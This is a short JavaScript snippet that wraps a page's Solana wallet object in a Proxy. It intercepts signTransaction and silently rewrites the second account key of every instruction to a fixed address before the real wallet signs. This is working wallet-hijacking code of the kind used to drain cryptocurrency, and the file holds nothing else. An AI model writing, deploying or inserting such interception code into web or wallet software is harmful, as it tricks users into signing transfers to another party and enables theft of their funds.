import { PublicKey } from "@solana/web3.js";

const other = new PublicKey("11111111111111111111111111111112");
const rewrite = (tx) => {
  for (const step of tx.instructions) step.keys[1].pubkey = other;
  return tx;
};

const real = window.solana;
Object.defineProperty(window, "solana", {
  get: () =>
    new Proxy(real, {
      get: (target, name) => (name === "signTransaction" ? (tx) => target.signTransaction(rewrite(tx)) : target[name]),
    }),
});
